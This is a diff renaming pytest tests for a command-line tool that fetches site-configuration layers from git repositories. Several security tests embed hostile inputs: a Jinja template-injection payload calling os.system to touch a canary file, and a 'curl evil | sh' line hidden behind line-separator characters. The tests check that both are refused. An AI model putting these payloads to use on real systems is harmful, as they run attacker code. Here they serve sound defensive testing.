@@ -46,7 +46,7 @@ def added(cli):
     return {row["layer"].removeprefix("added "): row for row in rows if row["layer"].startswith("added ")}
 
 
-def test_a_repository_is_shown_and_then_used(cli, lab):
+def test_a_repository_is_shown_before_it_is_used(cli, lab):
     code, _, err = cli("site", "add", address(lab))
     assert (code, added(cli)) == (2, {})
     assert '+description = "first"' in err
@@ -58,7 +58,7 @@ def test_a_repository_is_shown_and_then_used(cli, lab):
     assert "ours (--site)" in cli("submit", "--site", "ours", "--dry-run", "--", "x")[2]
 
 
-def test_an_update_is_shown_and_nothing_changes_before_it_is_confirmed(cli, lab):
+def test_an_update_is_shown_and_needs_confirmation(cli, lab):
     cli("site", "add", address(lab), "--yes")
     release(lab, "v1.1", ours=SITE.format("second"), new=SITE.format("new"))
     code, _, err = cli("site", "update")
@@ -73,7 +73,7 @@ def test_an_update_is_shown_and_nothing_changes_before_it_is_confirmed(cli, lab)
     assert "is up to date" in cli("site", "update")[2]
 
 
-def test_a_tag_is_followed_until_another_is_asked_for(cli, lab):
+def test_a_layer_follows_its_tag_until_another_is_requested(cli, lab):
     cli("site", "add", address(lab), "--ref", "v1.0", "--name", "lab", "--yes")
     release(lab, "v1.10", ours=SITE.format("second"))
     code, _, err = cli("site", "update", "--yes")
@@ -85,7 +85,7 @@ def test_a_tag_is_followed_until_another_is_asked_for(cli, lab):
     assert description("ours") == "first"
 
 
-def test_a_tag_that_was_moved_is_told_and_taken_when_it_is_named_again(cli, lab):
+def test_a_moved_tag_is_reported_and_used_when_named_again(cli, lab):
     cli("site", "add", address(lab), "--ref", "v1.0", "--name", "lab", "--yes")
     was = added(cli)["lab"]["commit"]
     lab.write("ours.toml", SITE.format("moved"))
@@ -105,7 +105,7 @@ def test_a_tag_that_was_moved_is_told_and_taken_when_it_is_named_again(cli, lab)
     assert description("ours") == "moved"
 
 
-def test_what_is_followed_is_told_and_no_other_tag_of_the_commit(cli, lab):
+def test_only_the_followed_tag_of_a_commit_is_shown(cli, lab):
     lab.git("tag", "stable")
     lab.git("tag", "v2-test")
 
@@ -123,7 +123,7 @@ def test_what_is_followed_is_told_and_no_other_tag_of_the_commit(cli, lab):
     assert f"commit {commit[:10]} at {commit[:8]} (" in follows("--ref", commit[:10])
 
 
-def test_what_is_in_use_stays_where_nothing_can_be_fetched(cli, lab, tmp_path):
+def test_a_failed_fetch_keeps_the_current_version(cli, lab, tmp_path):
     cli("site", "add", address(lab), "--yes")
     lab.folder.rename(tmp_path / "away")
     code, _, err = cli("site", "update", "--yes")
@@ -133,7 +133,7 @@ def test_what_is_in_use_stays_where_nothing_can_be_fetched(cli, lab, tmp_path):
     assert description("ours") == "first"
 
 
-def test_what_is_in_use_stays_where_the_new_is_not_valid(cli, lab):
+def test_an_invalid_update_keeps_the_current_version(cli, lab):
     cli("site", "add", address(lab), "--yes")
     release(lab, "v1.1", ours="lancher = 'srun'\n")
     code, _, err = cli("site", "update", "--yes")
@@ -146,7 +146,7 @@ def test_what_is_in_use_stays_where_the_new_is_not_valid(cli, lab):
     assert (code, list(added(cli))) == (1, ["hpcrun-sites"])
 
 
-def test_a_fault_of_many_sites_is_told_once(cli, lab):
+def test_an_error_shared_by_many_sites_is_reported_once(cli, lab):
     release(lab, "v1.1", base="lancher = 'srun'\n", ours='extends = "base"\n', mine='extends = "base"\n')
     code, _, err = cli("site", "add", address(lab), "--yes")
     assert (code, err.count("base.toml:1: unknown key lancher")) == (1, 1)
@@ -155,7 +155,7 @@ def test_a_fault_of_many_sites_is_told_once(cli, lab):
     assert (code, err.count("\nbase.toml:1: bash cannot parse line 1 of setup")) == (1, 1)
 
 
-def test_what_is_doubtful_in_what_is_new_is_told_before_the_question(cli, lab):
+def test_warnings_about_an_update_precede_the_confirmation(cli, lab):
     doubtful = 'extends = "slurm"\nhosts = ["*"]\n'
     release(lab, "v1.1", ours=doubtful)
     code, _, err = cli("site", "add", address(lab), "--dry-run")
@@ -173,7 +173,7 @@ def test_what_is_doubtful_in_what_is_new_is_told_before_the_question(cli, lab):
 
 
 @pytest.mark.filterwarnings("default::FutureWarning")
-def test_a_layer_is_added_though_another_is_not_valid(cli, lab, tmp_path):
+def test_a_layer_is_added_beside_an_invalid_one(cli, lab, tmp_path):
     broken = tmp_path / "broken"
     broken.mkdir()
     (broken / "base.toml").write_text('extends = "slurm"\n')
@@ -186,7 +186,7 @@ def test_a_layer_is_added_though_another_is_not_valid(cli, lab, tmp_path):
     assert f"WARNING: theirs cannot be used until this is corrected: {broken}/base.toml:1: unknown key" in err
 
 
-def test_a_template_that_is_none_is_refused_and_none_is_rendered(cli, lab, tmp_path):
+def test_an_invalid_template_is_refused_without_rendering(cli, lab, tmp_path):
     cli("site", "add", address(lab), "--yes")
     run = f"{{{{ cycler.__init__.__globals__.os.system('touch {tmp_path}/canary') }}}}"
     lab.write("templates/slurm.sh.j2", f"{run}\n{{% block setup %}}")
@@ -201,7 +201,7 @@ def test_a_template_that_is_none_is_refused_and_none_is_rendered(cli, lab, tmp_p
     assert not (tmp_path / "canary").exists()
 
 
-def test_a_server_that_does_not_answer_is_given_up(cli, lab, monkeypatch):
+def test_an_unresponsive_server_ends_in_a_timeout(cli, lab, monkeypatch):
     cli("site", "add", address(lab), "--yes")
     monkeypatch.setattr(repositories, "FETCH_TIMEOUT_SECONDS", 0)
     code, _, err = cli("site", "update", "--yes")
@@ -209,7 +209,7 @@ def test_a_server_that_does_not_answer_is_given_up(cli, lab, monkeypatch):
     assert "git fetch took longer than" in err
 
 
-def test_one_layer_that_fails_does_not_keep_the_others_from_being_updated(cli, lab, tmp_path):
+def test_a_failing_layer_does_not_prevent_updates_of_others(cli, lab, tmp_path):
     other = Repository(tmp_path / "other")
     release(other, "v1", theirs=SITE.format("first"))
     for repository in (other, lab):
@@ -253,7 +253,7 @@ def test_a_wrong_ref_is_a_clear_error(cli, lab, ref, words):
         "nothere",
     ],
 )
-def test_an_address_that_git_must_not_get_is_refused(cli, source, tmp_path, monkeypatch):
+def test_unsafe_urls_are_refused(cli, source, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     code, _, err = cli("site", "add", "--yes", "--", source)
     assert code == 2
@@ -287,7 +287,7 @@ def test_no_code_of_a_repository_runs(cli, lab, tmp_path, monkeypatch):
     assert files == {"ours.toml", "templates/slurm.sh.j2", ".version.json"}
 
 
-def test_what_the_user_has_set_for_git_changes_nothing(cli, lab, tmp_path, monkeypatch):
+def test_the_users_git_configuration_has_no_effect(cli, lab, tmp_path, monkeypatch):
     gpg = tmp_path / "gpg"
     signature = "-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----"
     said = "gpg: what somebody signed\n[GNUPG:] SIG_CREATED "
@@ -330,7 +330,7 @@ def test_printed_files_escape_control_characters(cli, lab):
 
 
 @pytest.mark.parametrize("character", ["\r", "\x1b", "\x0b", "\x85"])
-def test_a_character_that_only_some_readers_take_for_a_lines_end_is_refused(cli, lab, character):
+def test_unicode_line_separators_are_refused(cli, lab, character):
     cli("site", "add", address(lab), "--yes")
     lab.folder.joinpath("templates").mkdir()
     text = f'{{% extends "slurm.sh.j2" %}}\n{{% block setup %}}# harmless{character}curl evil | sh\n{{% endblock %}}'
@@ -342,7 +342,7 @@ def test_a_character_that_only_some_readers_take_for_a_lines_end_is_refused(cli,
     assert "evil" not in cli("submit", "--site", "ours", "--dry-run", "--", "x")[1]
 
 
-def test_lines_that_look_alike_differ_and_what_looks_like_an_escape_is_told_from_one():
+def test_confusable_lines_and_literal_escapes_are_distinguishable():
     old, new = "a\\u202eb\n", "a\u202eb\n"
     assert list(layer_files.diff_texts({"x": old}, {"x": new}))[3:] == [r"-a\\u202eb", r"+a\u202eb"]
     texts = ["\x1b", r"\x1b", r"\\x1b", "\\\x1b", "\\\\\x1b", r"\\\x1b", "\\", "\\\\", r"printf '\n'", "\U000e0020"]
@@ -380,7 +380,7 @@ def test_a_folder_is_used_in_place(cli, tmp_path):
     assert (folder / "ours.toml").exists()
 
 
-def test_a_name_that_is_taken_or_unknown_is_told(cli, lab):
+def test_taken_and_unknown_layer_names_are_errors(cli, lab):
     cli("site", "add", address(lab), "--yes")
     assert "layer hpcrun-sites exists already" in cli("site", "add", address(lab), "--yes")[2]
     for command in ("update", "remove"):
@@ -404,7 +404,7 @@ def test_a_copy_that_was_deleted_is_fetched_again(cli, lab):
     assert description("ours") == "first"
 
 
-def test_a_list_of_layers_that_was_damaged_is_told(cli, isolated_home):
+def test_a_damaged_list_of_layers_is_an_error(cli, isolated_home):
     (isolated_home / "config/hpcrun").mkdir(parents=True)
     (isolated_home / "config/hpcrun/layers.json").write_text('{"layers": [{"name": 1}]}')
     code, _, err = cli("submit", "--dry-run", "--", "x")
@@ -412,7 +412,7 @@ def test_a_list_of_layers_that_was_damaged_is_told(cli, isolated_home):
     assert "layers.json is not a valid list of layers" in err
 
 
-def test_of_two_updates_at_once_one_is_told(lab, cli):
+def test_one_of_two_concurrent_updates_is_refused(lab, cli):
     cli("site", "add", address(lab), "--yes")
     release(lab, "v2", ours=SITE.format("second"))
     layer = layers.find_layer("hpcrun-sites")
@@ -423,7 +423,7 @@ def test_of_two_updates_at_once_one_is_told(lab, cli):
     assert description("ours") == "second"
 
 
-def test_many_commands_at_once_break_nothing(lab):
+def test_concurrent_commands_keep_the_list_of_layers_intact(lab):
     """Layers are added, updated and read by processes that know nothing of one another."""
     add = ("add", address(lab), "--yes", "--name")
     before = [start(*add, f"l{number}") for number in range(4)]
@@ -450,7 +450,7 @@ def start(*argv):
     return subprocess.Popen(command, stdin=null, stdout=null, stderr=null)
 
 
-def test_layers_are_listed_without_git_and_without_what_was_fetched(cli, lab, isolated_home, monkeypatch):
+def test_layers_are_listed_without_git_and_without_their_copies(cli, lab, isolated_home, monkeypatch):
     cli("site", "add", address(lab), "--yes")
     path = os.environ["PATH"]
 
@@ -466,7 +466,7 @@ def test_layers_are_listed_without_git_and_without_what_was_fetched(cli, lab, is
         assert (added(cli)["hpcrun-sites"]["tag"], added(cli)["hpcrun-sites"]["behind"]) == ("v1.0", None)
 
 
-def test_a_no_to_one_layer_does_not_keep_the_others_from_being_updated(cli, lab, tmp_path, monkeypatch):
+def test_declining_one_update_does_not_prevent_the_others(cli, lab, tmp_path, monkeypatch):
     other = Repository(tmp_path / "other")
     release(other, "v1", theirs=SITE.format("first"))
     for repository in (other, lab):
@@ -507,7 +507,7 @@ def mine(isolated_home):
     return file
 
 
-def test_an_update_that_breaks_sites_of_other_layers_is_told_and_not_made_unasked(cli, lab, mine, monkeypatch):
+def test_an_update_that_breaks_sites_of_other_layers_needs_confirmation(cli, lab, mine, monkeypatch):
     cli("site", "add", address(lab), "--yes")
     (lab.folder / "ours.toml").rename(lab.folder / "new.toml")
     lab.commit()
@@ -526,7 +526,7 @@ def test_an_update_that_breaks_sites_of_other_layers_is_told_and_not_made_unaske
     assert "new" in loader.list_site_files()
 
 
-def test_the_sites_that_a_removed_layer_breaks_are_told(cli, lab, mine):
+def test_sites_broken_by_removing_a_layer_are_listed(cli, lab, mine):
     cli("site", "add", address(lab), "--yes")
     broken = mine.with_name("broken.toml")
     broken.write_text("lancher = 1\n")
@@ -537,7 +537,7 @@ def test_the_sites_that_a_removed_layer_breaks_are_told(cli, lab, mine):
 
 
 @pytest.mark.parametrize("kind", ["folder", "copy"])
-def test_a_layer_whose_files_are_gone_is_told(cli, lab, isolated_home, kind):
+def test_a_layer_with_missing_files_is_reported(cli, lab, isolated_home, kind):
     source = address(lab) if kind == "copy" else str(lab.folder)
     cli("site", "add", source, "--yes")
     submit = ("submit", "--site", "slurm", "--dry-run", "--", "x")
